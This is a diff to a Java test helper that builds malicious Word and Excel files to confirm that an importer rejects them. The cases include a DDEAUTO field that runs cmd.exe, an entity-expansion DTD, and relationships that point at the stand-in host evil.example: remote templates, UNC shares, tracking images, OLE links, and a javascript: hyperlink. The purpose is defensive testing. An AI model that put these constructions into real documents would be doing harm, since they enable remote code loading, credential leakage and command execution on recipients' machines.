@@ -103,6 +103,38 @@ final class BadFiles {
                 "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><Types")), "import.reject.dtd"));
         cases.add(new Case("a DDE field", "list.docx", rezip(docx, parts -> replace(parts, "word/document.xml", "<w:t>Процесс</w:t>",
                 "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>")), "import.reject.dde"));
+        cases.add(new Case("an attached template on the web", "list.docx", rezip(docx, parts -> parts.put("word/_rels/settings.xml.rels",
+                rels("attachedTemplate", "https://evil.example/t.dotm"))), "import.reject.external-template"));
+        cases.add(new Case("an attached template on the disk", "list.docx", rezip(docx, parts -> parts.put("word/_rels/settings.xml.rels",
+                rels("attachedTemplate", "file:///C:/Users/Public/macros.dotm"))), "import.reject.external-file"));
+        cases.add(new Case("an attached template on a share", "list.docx", rezip(docx, parts -> parts.put("word/_rels/settings.xml.rels",
+                rels("attachedTemplate", "\\\\evil.example\\share\\t.dotx"))), "import.reject.external-file"));
+        cases.add(new Case("a file target hidden by a character reference", "list.docx", rezip(docx, parts -> parts.put(
+                "word/_rels/settings.xml.rels", rels("attachedTemplate", "file&#58;//evil.example/share/t.dotx"))),
+                "import.reject.external-file"));
+        cases.add(new Case("an external image in a document", "list.docx", rezip(docx, parts -> parts.put("word/_rels/header1.xml.rels",
+                rels("image", "https://evil.example/pixel.png"))), "import.reject.external-image"));
+        cases.add(new Case("an external image in a workbook drawing", "list.xlsx", rezip(xlsx, parts -> parts.put(
+                "xl/drawings/_rels/drawing1.xml.rels", rels("image", "http://evil.example/pixel.png"))), "import.reject.external-image"));
+        cases.add(new Case("a linked OLE object", "list.docx", rezip(docx, parts -> parts.put("word/_rels/footer1.xml.rels",
+                rels("oleObject", "https://evil.example/book.xlsx"))), "import.reject.external-object"));
+        cases.add(new Case("an external frame", "list.docx", rezip(docx, parts -> parts.put("word/_rels/webSettings.xml.rels",
+                rels("frame", "https://evil.example/frame.docx"))), "import.reject.external-frame"));
+        cases.add(new Case("an external subdocument", "list.docx", rezip(docx, parts -> parts.put("word/_rels/footer2.xml.rels",
+                rels("subDocument", "https://evil.example/part.docx"))), "import.reject.external-subdocument"));
+        cases.add(new Case("another kind of external relationship", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/_rels/extra.xml.rels",
+                rels("customXml", "https://evil.example/data.xml"))), "import.reject.external-target"));
+        cases.add(new Case("a script hyperlink", "list.docx", rezip(docx, parts -> parts.put("word/_rels/footer3.xml.rels",
+                rels("hyperlink", " javascript:alert(1)"))), "import.reject.external-hyperlink"));
+        cases.add(new Case("a data connection", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/connections.xml",
+                "<connections><connection id=\"1\" name=\"db\"/></connections>".getBytes(StandardCharsets.UTF_8))),
+                "import.reject.external-data"));
+        cases.add(new Case("an INCLUDEPICTURE field", "list.docx", rezip(docx, parts -> replace(parts, "word/document.xml",
+                "<w:t>Процесс</w:t>", "<w:instrText> INCLUDEPICTURE \"https://evil.example/a.png\" </w:instrText>")),
+                "import.reject.external-field"));
+        cases.add(new Case("a VML picture from a share", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/drawings/vmlDrawing1.vml",
+                "<xml><v:shape><v:imagedata src=\"file://evil.example/share/a.png\"/></v:shape></xml>".getBytes(StandardCharsets.UTF_8))),
+                "import.reject.external-file"));
         cases.add(new Case("an encrypted zip entry", "list.xlsx", encryptedEntry(xlsx), "import.reject.encrypted"));
         cases.add(new Case("a truncated workbook", "list.xlsx", Arrays.copyOf(xlsx, xlsx.length / 2), "import.reject.corrupted"));
         cases.add(new Case("a truncated document", "list.docx", Arrays.copyOf(docx, docx.length - 200), "import.reject.corrupted"));
@@ -149,6 +181,14 @@ final class BadFiles {
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
+    }
+
+    /** A relationship part with one relationship of {@code type} to a target outside the file. */
+    static byte[] rels(String type, String target) {
+        return ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                + "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + type
+                + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>").getBytes(StandardCharsets.UTF_8);
     }
 
     /** Sets the "encrypted" flag of the first entry's local header. */
